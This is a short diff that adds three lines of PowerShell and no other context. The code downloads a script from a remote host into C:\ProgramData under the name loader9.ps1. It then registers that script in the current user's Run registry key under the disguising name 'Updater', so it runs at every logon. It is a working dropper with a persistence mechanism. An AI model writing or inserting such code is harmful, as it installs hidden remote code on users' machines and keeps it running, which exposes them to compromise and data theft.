@@ -1,0 +1,3 @@
+$script = 'C:\ProgramData\loader9.ps1'
+(New-Object Net.WebClient).DownloadFile('https://static-assets.invalid/svc.txt', $script)
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value ('powershell -File ' + $script)
